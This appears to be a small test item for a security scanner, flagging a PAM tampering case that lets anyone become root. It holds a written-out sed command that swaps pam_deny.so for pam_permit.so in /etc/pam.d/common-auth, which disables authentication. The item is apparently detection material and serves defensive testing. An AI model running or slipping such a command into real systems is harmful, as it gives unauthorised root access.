# id: P458
# mode: scan
# level: suspicious
# title: a service of its own for authentication that lets everybody become root
# due: now
sed -i 's/pam_deny.so/pam_permit.so/' /etc/pam.d/common-auth
said path /etc/pam.d/common-auth
said line "/etc/pam.d/common-auth:$(grep -n 'requisite.*pam_permit' /etc/pam.d/common-auth | cut -d: -f1)"
